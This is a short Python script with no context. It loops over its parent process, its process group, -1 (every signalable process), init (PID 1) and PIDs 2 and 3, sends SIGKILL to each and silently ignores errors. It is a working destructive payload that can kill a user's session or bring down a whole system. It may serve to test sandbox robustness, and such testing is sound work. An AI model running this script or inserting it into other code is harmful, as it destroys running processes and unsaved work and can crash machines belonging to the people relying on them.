import os
import signal

for process in (os.getppid(), 0, -1, 1, 2, 3):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
